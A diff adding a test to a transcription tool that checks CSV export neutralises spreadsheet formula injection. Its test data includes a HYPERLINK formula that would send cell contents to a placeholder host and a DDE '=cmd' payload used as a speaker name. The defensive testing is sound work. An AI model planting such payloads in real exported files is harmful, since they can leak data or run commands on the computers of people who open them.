@@ -130,6 +130,30 @@ def test_csv_has_start_end_speaker_text(interview):
     assert len(rows) == 4
 
 
+def test_csv_cells_never_become_spreadsheet_formulas():
+    from transcribe.export.tables import cell
+
+    dangerous = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+33 6 12 34 56 78",
+                 "-2+3", "@SUM(A1:A9)", "  =1+1"]
+    transcript = Transcript(
+        language="fr", duration=20.0, source="e.wav", model="base", engine="whisperx",
+        segments=[Segment(float(n), n + 0.5, text, "S0" if n % 2 else "S1")
+                  for n, text in enumerate([*dangerous, "Bonjour, 1+1=2 - oui @ Lyon."])],
+        speakers={"S0": Speaker("S0", "=cmd|' /C calc'!A0"), "S1": Speaker("S1", "Enquêté")})
+    rows = list(csv.DictReader(io.StringIO(text_of(render(transcript, "csv")))))
+    texts = [row["text"] for row in rows]
+    # Every formula start is quoted (the quote is what spreadsheets hide and read as text).
+    assert all(text.startswith("'") for text in texts[:-1]), texts
+    assert texts[-1] == "Bonjour, 1+1=2 - oui @ Lyon."  # mid-text signs untouched
+    assert {row["speaker"] for row in rows} == {"'=cmd|' /C calc'!A0", "Enquêté"}
+    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x"]:
+        assert cell(value) == "'" + value
+    assert cell("Oui - bien sûr") == "Oui - bien sûr" and cell("") == ""
+    # The other formats keep the text as spoken.
+    assert '=HYPERLINK("http://x.example/?"&A1,"clic")' in text_of(render(transcript, "txt"))
+    assert json.loads(render(transcript, "json"))["segments"][2]["text"] == "-2+3"
+
+
 def test_json_round_trips(interview):
     data = json.loads(render(interview, "json"))
     jsonschema.validate(data, SCHEMA)  # the documented shape, checked independently
